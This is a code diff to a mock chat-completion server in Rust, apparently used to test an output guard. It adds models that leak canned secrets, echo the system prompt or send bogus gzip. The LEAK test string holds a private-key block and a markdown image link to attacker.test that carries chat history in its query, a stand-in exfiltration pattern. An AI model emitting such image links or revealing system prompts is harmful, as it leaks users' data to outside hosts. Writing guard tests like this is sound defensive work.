@@ -6,6 +6,10 @@
 //! - `fail-*`: answers 500;
 //! - `drop-*`: streams two events and then drops the connection;
 //! - `drip-*`: streams 10 events 100 ms apart;
+//! - `leak-*`: answers [`LEAK`] (an e-mail address, a private key, an image
+//!   link and a zero-width space), streamed 16 bytes an event;
+//! - `echo-*`: answers with its system prompt, streamed 8 bytes an event;
+//! - `gzip-*`: answers with `Content-Encoding: gzip`, whatever was asked;
 //! - anything else: answers at once.
 //!
 //! Every request it receives is counted, and the last request's headers kept.
@@ -81,6 +85,33 @@ async fn answer(req: Request<Incoming>, seen: Arc<Seen>) -> Response<Body> {
             StatusCode::OK,
             serde_json::json!({"object": "list", "data": [{"id": "test-model", "object": "model"}]}),
         ),
+        ("POST", "/v1/chat/completions") if model.starts_with("gzip-") => {
+            let mut r = Response::new(full(&b"\x1f\x8b\x08\x00compressed"[..]));
+            r.headers_mut()
+                .insert("content-encoding", http::HeaderValue::from_static("gzip"));
+            r
+        }
+        ("POST", "/v1/chat/completions")
+            if model.starts_with("leak-") || model.starts_with("echo-") =>
+        {
+            let (text, piece) = if model.starts_with("leak-") {
+                (LEAK.to_string(), 16)
+            } else {
+                (system_prompt(&v), 8)
+            };
+            if field("stream") == true {
+                stream_text(text, piece)
+            } else {
+                json(
+                    StatusCode::OK,
+                    serde_json::json!({
+                        "id": "chatcmpl-1", "object": "chat.completion", "model": model,
+                        "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
+                        "usage": {"prompt_tokens": 9, "completion_tokens": 30, "total_tokens": 39}
+                    }),
+                )
+            }
+        }
         ("POST", "/v1/chat/completions") if field("stream") == true => stream(&model),
         ("POST", "/v1/completions") => json(
             StatusCode::OK,
@@ -122,6 +153,54 @@ async fn answer(req: Request<Incoming>, seen: Arc<Seen>) -> Response<Body> {
             serde_json::json!({"error": format!("no {path}")}),
         ),
     }
+}
+
+/// What a `leak-*` model answers: things an output guard should catch.
+pub const LEAK: &str = "Sure. Write to jane.doe@example.com for access. The deploy key is:\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu\nNMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ\n-----END PRIVATE KEY-----\nSee ![chart](https://attacker.test/c.png?d=history) and this\u{200b} note.";
+
+/// The content of a chat body's first system message.
+fn system_prompt(body: &serde_json::Value) -> String {
+    body.get("messages")
+        .and_then(|m| m.as_array())
+        .and_then(|m| {
+            m.iter()
+                .find(|m| m.get("role").and_then(|r| r.as_str()) == Some("system"))
+        })
+        .and_then(|m| m.get("content"))
+        .and_then(|c| c.as_str())
+        .unwrap_or("I have no system prompt.")
+        .to_string()
+}
+
+/// Streams `text` as chat deltas of `piece` bytes, then the finish event.
+fn stream_text(text: String, piece: usize) -> Response<Body> {
+    let mut events = Vec::new();
+    let mut at = 0;
+    while at < text.len() {
+        let mut end = (at + piece).min(text.len());
+        while !text.is_char_boundary(end) {
+            end += 1;
+        }
+        let delta = serde_json::json!({"choices": [{"index": 0, "delta": {"content": text.get(at..end).unwrap_or("")}, "finish_reason": null}]});
+        events.push(format!("data: {delta}\n\n"));
+        at = end;
+    }
+    events.push("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":9,\"completion_tokens\":30,\"total_tokens\":39}}\n\n".into());
+    events.push("data: [DONE]\n\n".into());
+    let (tx, rx) = tokio::sync::mpsc::channel::<Result<Frame<Bytes>, std::io::Error>>(4);
+    tokio::spawn(async move {
+        for e in events {
+            if tx.send(Ok(Frame::data(Bytes::from(e)))).await.is_err() {
+                return;
+            }
+        }
+    });
+    let mut r = Response::new(BodyExt::boxed(ChannelBody(rx)));
+    r.headers_mut().insert(
+        "content-type",
+        http::HeaderValue::from_static("text/event-stream"),
+    );
+    r
 }
 
 fn stream(model: &str) -> Response<Body> {
